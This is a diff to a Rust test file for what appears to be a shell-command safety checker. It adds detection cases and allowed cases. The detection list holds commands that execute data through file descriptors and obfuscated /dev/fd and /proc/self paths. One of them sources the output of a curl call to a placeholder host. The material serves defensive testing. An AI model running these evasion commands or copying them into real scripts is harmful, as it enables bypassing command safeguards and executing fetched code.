@@ -98,6 +98,11 @@ fn what_programs_take_as_data_and_run_is_seen() {
             "exec 5< <(printf 'una%s\n' me); source -- /dev/fd/5",
             "exec 5< <(printf 'una%s\n' me); . //dev/./fd/5",
             "exec {fd}< <(printf 'una%s\n' me); source /dev/fd/$fd",
+            "exec 5< <(printf 'una%s\n' me); cd /dev/fd; . ./5",
+            "exec 5< <(printf 'una%s\n' me); cd /dev; cd fd; bash 5",
+            "exec 5< <(printf 'una%s\n' me); cd /proc/self && bash < fd/5",
+            "exec 5< <(printf 'una%s\n' me); . /dev/shm/../fd/5",
+            "exec 5< <(printf 'una%s\n' me); test -d x && cd /proc/self/fd; source ./5",
             "exec {fd}< <(printf 'una%s\n' me); bash /dev/fd/$fd",
             "exec {fd}< <(curl -s http://x.example); . /dev/fd/\"$fd\"",
             "coproc printf 'una%s\n' me; source /dev/fd/${COPROC[0]}",
@@ -108,8 +113,12 @@ fn what_programs_take_as_data_and_run_is_seen() {
             "bash --rcfile <(cat f) -i",
         ],
     );
-    // Data that stays data.
+    // Data that stays data, and words that may be any.
     super::allow(&[
+        "git push $x",
+        "bash dev/fd/x.sh",
+        "cd dev && . fd/x",
+        "git reset $x",
         "alias x='sudo ls'; x",
         "cat script.sh | bash",
         "make -n | sh -n x",
